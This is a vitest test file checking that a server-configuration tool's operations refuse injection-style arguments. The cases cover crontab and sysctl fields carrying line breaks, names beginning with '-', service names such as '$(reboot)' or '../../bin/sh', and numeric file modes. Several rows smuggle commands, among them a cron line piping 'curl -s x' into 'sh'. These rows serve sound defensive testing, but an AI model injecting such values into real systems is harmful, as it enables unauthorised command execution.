// Input an operation must refuse rather than pass on: line breaks that would add crontab entries or
// lines, names a command would read as options, modes given as numbers. Each row is the exact message.
import { describe, expect, test } from "vitest";
import { operationsByName } from "../../src/operations/index.js";
import { OperationArgumentError } from "../../src/operations/shared/args.js";

// Validates `args` for `operation` and gives the error message (or "accepted").
function refusal(operation: string, args: Record<string, unknown>): string {
  const definition = operationsByName[operation];
  if (!definition) throw new Error(`no operation ${operation}`);
  try {
    definition.validate(args);
    return "accepted";
  } catch (error) {
    expect(error).toBeInstanceOf(OperationArgumentError);
    return (error as Error).message;
  }
}

const cron = { command: "/usr/bin/backup" };
const cronBreak = "A line break would add another crontab entry: remove it.";

describe("server.crontab refuses a line break in any field", () => {
  test.each([
    [
      "command",
      { command: "/usr/bin/backup\n* * * * * curl -s x | sh" },
      `argument command must be one line; it holds a line break: "/usr/bin/backup\\n* * * * * curl -s x | sh". ${cronBreak}`,
    ],
    [
      "command (\\r)",
      { command: "backup\r* * * * * evil" },
      `argument command must be one line; it holds a line break: "backup\\r* * * * * evil". ${cronBreak}`,
    ],
    [
      "minute",
      { ...cron, minute: "0\n* * * * * evil" },
      `argument minute must be one line; it holds a line break: "0\\n* * * * * evil". ${cronBreak}`,
    ],
    ["hour", { ...cron, hour: "1\n" }, `argument hour must be one line; it holds a line break: "1\\n". ${cronBreak}`],
    [
      "day_of_month",
      { ...cron, day_of_month: "1\r" },
      `argument day_of_month must be one line; it holds a line break: "1\\r". ${cronBreak}`,
    ],
    [
      "month",
      { ...cron, month: "\n1" },
      `argument month must be one line; it holds a line break: "\\n1". ${cronBreak}`,
    ],
    [
      "day_of_week",
      { ...cron, day_of_week: "1\n2" },
      `argument day_of_week must be one line; it holds a line break: "1\\n2". ${cronBreak}`,
    ],
    [
      "special_time",
      { ...cron, special_time: "@daily\n" },
      `argument special_time must be one line; it holds a line break: "@daily\\n". ${cronBreak}`,
    ],
    [
      "user",
      { ...cron, user: "root\n" },
      `argument user must be one line; it holds a line break: "root\\n". ${cronBreak}`,
    ],
  ])("%s", (_, args, message) => {
    expect(refusal("server.crontab", args)).toBe(message);
  });

  test.each([
    [
      "a space in a schedule field",
      { ...cron, minute: "0 5" },
      'argument minute "0 5" holds a space: a schedule field is one cron field such as "*/5" or "0,30".',
    ],
    [
      "a special_time that is not @word",
      { ...cron, special_time: "daily" },
      'argument special_time must be one of @reboot, @yearly, @annually, @monthly, @weekly, @daily, @midnight, @hourly; it is "daily".',
    ],
  ])("%s", (_, args, message) => {
    expect(refusal("server.crontab", args)).toBe(message);
  });
});

describe("server.sysctl keys and values", () => {
  test.each([
    [
      "a line break in the value",
      { key: "vm.swappiness", value: "10\nkernel.x = 1", persist: true },
      'argument value must be one line; it holds a line break: "10\\nkernel.x = 1". A line break would add another setting to the file: remove it.',
    ],
    [
      "a key with a space",
      { key: "vm.swappiness = 1", value: 1 },
      'argument key "vm.swappiness = 1" is not a kernel parameter name: it holds " ". Give a name such as "net.ipv4.ip_forward".',
    ],
    [
      "a key that starts with -",
      { key: "-p", value: 1 },
      'argument key "-p" is not a kernel parameter name: it starts with "-". Give a name such as "net.ipv4.ip_forward".',
    ],
  ])("%s", (_, args, message) => {
    expect(refusal("server.sysctl", args)).toBe(message);
  });

  test("a key with regular expression characters is accepted", () => {
    expect(refusal("server.sysctl", { key: "net.ipv4.conf.(x).forwarding", value: 1, persist: true })).toBe("accepted");
  });
});

const dash = (key: string, kind: string, name = "-rf") =>
  `argument ${key} "${name}" starts with "-", which commands would read as an option; give the ${kind}'s name (e.g. ${key}: "deploy").`;

describe("user and group names starting with - are refused", () => {
  test.each([
    ["server.user", { user: "-o" }, dash("user", "user", "-o")],
    ["server.user", { user: "deploy", group: "-rf" }, dash("group", "group")],
    ["server.user", { user: "deploy", groups: ["adm", "-rf"] }, dash("groups", "group")],
    ["server.group", { group: "-rf" }, dash("group", "group")],
    ["server.crontab", { command: "backup", user: "-r" }, dash("user", "user", "-r")],
    ["files.file", { path: "/tmp/x", user: "-rf" }, dash("user", "user")],
    ["files.file", { path: "/tmp/x", group: "-rf" }, dash("group", "group")],
    ["files.directory", { path: "/tmp/x", user: "-rf" }, dash("user", "user")],
    ["files.directory", { path: "/tmp/x", group: "-rf" }, dash("group", "group")],
    ["files.put", { src: "a", dest: "/tmp/x", user: "-rf" }, dash("user", "user")],
    ["files.template", { src: "a", dest: "/tmp/x", group: "-rf" }, dash("group", "group")],
    ["files.link", { path: "/tmp/x", target: "/tmp/y", user: "-rf" }, dash("user", "user")],
    ["files.link", { path: "/tmp/x", target: "/tmp/y", group: "-rf" }, dash("group", "group")],
    ["files.download", { src: "https://127.0.0.1/x", dest: "/tmp/x", user: "-rf" }, dash("user", "user")],
    ["files.sync", { src: "a", dest: "/tmp/x", group: "-rf" }, dash("group", "group")],
    ["git.repo", { src: "https://127.0.0.1/r.git", dest: "/srv/r", user: "-rf" }, dash("user", "user")],
    ["git.repo", { src: "https://127.0.0.1/r.git", dest: "/srv/r", group: "-rf" }, dash("group", "group")],
  ])("%s %j", (operation, args, message) => {
    expect(refusal(operation, args)).toBe(message);
  });

  test.each([
    [
      "files.file",
      { path: "/tmp/x", user: "deploy:adm" },
      'argument user "deploy:adm" is not a valid user name: it holds ":".',
    ],
    ["server.group", { group: "a b" }, 'argument group "a b" is not a valid group name: it holds " ".'],
    [
      "server.user",
      { user: "deploy", groups: "adm,sudo" },
      'argument groups "adm,sudo" is not a valid group name: it holds ",".',
    ],
  ])("%s %j holds a separator", (operation, args, message) => {
    expect(refusal(operation, args)).toBe(message);
  });

  test.each([
    ["files.file", { path: "/tmp/x", user: "1000", group: "www-data" }],
    ["server.user", { user: "svc-app", group: "svc_app", groups: ["adm", "docker"] }],
  ])("%s %j is accepted", (operation, args) => {
    expect(refusal(operation, args)).toBe("accepted");
  });
});

const numberMode = (key: string, value: number, octal: string) =>
  `argument ${key} must be a string of 3 or 4 octal digits; it is the number ${value} (0o${octal}). A number cannot say which mode is meant (0o640 is 416, and 640 is not octal): write the digits in quotes, e.g. ${key}: "640".`;

describe("modes are strings of octal digits", () => {
  test.each([
    ["files.file", { path: "/tmp/x", mode: 0o640 }, numberMode("mode", 416, "640")],
    ["files.file", { path: "/tmp/x", mode: 644 }, numberMode("mode", 644, "1204")],
    ["files.directory", { path: "/tmp/x", mode: 0o755 }, numberMode("mode", 493, "755")],
    ["files.put", { src: "a", dest: "/tmp/x", mode: 0o600 }, numberMode("mode", 384, "600")],
    ["files.template", { src: "a", dest: "/tmp/x", mode: 0o600 }, numberMode("mode", 384, "600")],
    ["files.download", { src: "https://127.0.0.1/x", dest: "/tmp/x", mode: 0o644 }, numberMode("mode", 420, "644")],
    ["files.sync", { src: "a", dest: "/tmp/x", mode: 0o644 }, numberMode("mode", 420, "644")],
    ["files.sync", { src: "a", dest: "/tmp/x", dir_mode: 0o755 }, numberMode("dir_mode", 493, "755")],
    [
      "files.file",
      { path: "/tmp/x", mode: 99999 },
      'argument mode must be a string of 3 or 4 octal digits; it is the number 99999. A number cannot say which mode is meant (0o640 is 416, and 640 is not octal): write the digits in quotes, e.g. mode: "640".',
    ],
    [
      "files.file",
      { path: "/tmp/x", mode: "u+x" },
      'argument mode must be a string of 3 or 4 octal digits such as "640" or "0755"; it is "u+x" (a string).',
    ],
    [
      "files.file",
      { path: "/tmp/x", mode: "00644" },
      'argument mode must be a string of 3 or 4 octal digits such as "640" or "0755"; it is "00644" (a string).',
    ],
    [
      "files.directory",
      { path: "/tmp/x", mode: "789" },
      'argument mode must be a string of 3 or 4 octal digits such as "640" or "0755"; it is "789" (a string).',
    ],
  ])("%s %j", (operation, args, message) => {
    expect(refusal(operation, args)).toBe(message);
  });

  test.each([
    ["640", "640"],
    ["0640", "640"],
    ["1777", "1777"],
  ])("mode %s is read as %s", (mode, wanted) => {
    const args = operationsByName["files.file"]?.validate({ path: "/tmp/x", mode }) as { mode?: string };
    expect(args.mode).toBe(wanted);
  });
});

describe("files.line and files.link take no argument they would ignore", () => {
  test.each([
    [
      "files.line",
      { path: "/etc/motd", line: "one\ntwo" },
      'argument line must be one line; it holds a line break: "one\\ntwo". files.line matches and writes single lines: use one files.line per line, or files.put for a block.',
    ],
    [
      "files.line",
      { path: "/etc/motd", line: "^one", replace: "one\ntwo" },
      'argument replace must be one line; it holds a line break: "one\\ntwo". files.line matches and writes single lines: use one files.line per line, or files.put for a block.',
    ],
    [
      "files.line",
      { path: "/etc/motd", line: "one", ensure_newline: false },
      "argument ensure_newline: false is not supported: files.line always puts an appended line on a line of its own (as ensure_newline: true does). Remove the argument.",
    ],
    ["files.line", { path: "/etc/motd", line: "one", ensure_newline: true }, "accepted"],
    ["files.link", { path: "/tmp/l", target: "/tmp/t", symbolic: false }, "accepted"],
    [
      "files.link",
      { path: "/tmp/l", target: "/tmp/t", symbolic: "no" },
      'argument symbolic must be true or false; it is "no" (a string).',
    ],
  ])("%s %j", (operation, args, message) => {
    expect(refusal(operation, args)).toBe(message);
  });
});

test("pip.packages with a virtualenv runs the pip named by pip inside it", () => {
  const args = operationsByName["pip.packages"]?.validate({
    packages: "flask",
    virtualenv: "/srv/venv",
    pip: "pip3.12",
  });
  expect(args).toMatchObject({ pip: "/srv/venv/bin/pip3.12" });
  expect(refusal("pip.packages", { packages: "flask", virtualenv: "/srv/venv", pip: "/usr/bin/pip3" })).toBe(
    'argument pip "/usr/bin/pip3" must be a command name (e.g. "pip3") when virtualenv is given: it is run as /srv/venv/bin/<pip>.',
  );
});

describe("values a command would read as options are refused", () => {
  test.each([
    [
      "apt.packages",
      { packages: ["nginx", "--allow-unauthenticated"] },
      'argument packages "--allow-unauthenticated" starts with "-", which the command would read as an option; give options in extra_install_args.',
    ],
    [
      "server.packages",
      { packages: "-y" },
      'argument packages "-y" starts with "-", which the command would read as an option; give options in extra_install_args.',
    ],
    [
      "pip.packages",
      { packages: ["-r/etc/requirements.txt"] },
      'argument packages "-r/etc/requirements.txt" starts with "-", which the command would read as an option; give options in extra_install_args.',
    ],
    [
      "git.repo",
      { src: "https://127.0.0.1/r.git", dest: "/srv/r", branch: "--orphan=x" },
      'argument branch "--orphan=x" starts with "-", which the command would read as an option; give the branch\'s name (git refuses names starting with -).',
    ],
    [
      "git.config",
      { key: "--file=/etc/passwd", value: "x" },
      'argument key "--file=/etc/passwd" starts with "-", which the command would read as an option; give a config key such as "user.name".',
    ],
    [
      "systemd.service",
      { service: "--all" },
      'argument service "--all" starts with "-", which the command would read as an option; give the service\'s name, e.g. service: "nginx".',
    ],
    [
      "server.service",
      { service: "-H" },
      'argument service "-H" starts with "-", which the command would read as an option; give the service\'s name, e.g. service: "nginx".',
    ],
    [
      "runit.service",
      { service: "-d" },
      'argument service "-d" starts with "-", which the command would read as an option; give the service\'s name, e.g. service: "nginx".',
    ],
    [
      "server.mount",
      { path: "/mnt", device: "-oexec" },
      'argument device "-oexec" starts with "-", which the command would read as an option; give what to mount, e.g. device: "/dev/sdb1" or device: "tmpfs".',
    ],
    [
      "systemd.service",
      { service: "app", user_mode: true, user_name: "--help" },
      'argument user_name "--help" starts with "-", which commands would read as an option; give the user\'s name (e.g. user_name: "deploy").',
    ],
  ])("%s %j", (operation, args, message) => {
    expect(refusal(operation, args)).toBe(message);
  });
});

// files.template and server.script_template take every other argument as a template variable, as pyinfra does.
const takesVariables = ["files.template", "server.script_template"];
test.each(Object.keys(operationsByName).filter((name) => !takesVariables.includes(name)))(
  "%s refuses an argument it does not know",
  (operation) => {
    expect(refusal(operation, { not_an_argument: 1 })).toMatch(
      new RegExp(`^${operation.replace(".", "\\.")} has no argument not_an_argument\\. Its arguments: `),
    );
  },
);

// Init systems other than systemd name services by plain words: a path, a glob or a command in a
// name would reach a script path, an rc directory glob or a runit directory.
describe("init-system service names are plain words", () => {
  const plain = (name: string) =>
    `argument service ${JSON.stringify(name)} is not a service name: give the name of its script (letters, digits, "_", ".", "@", "+", ":", "-"), e.g. service: "nginx".`;
  test.each([
    ["openrc.service", "../../bin/sh"],
    ["sysvinit.service", "cron*"],
    ["sysvinit.enable", "cron;reboot"],
    ["runit.service", "a b"],
    ["runit.manage", ".."],
    ["runit.auto", "x/y"],
    ["upstart.service", "ssh\nreboot"],
    ["bsdinit.service", "$(reboot)"],
  ])("%s refuses %j", (operation, service) => {
    expect(refusal(operation, { service })).toBe(plain(service));
  });
});
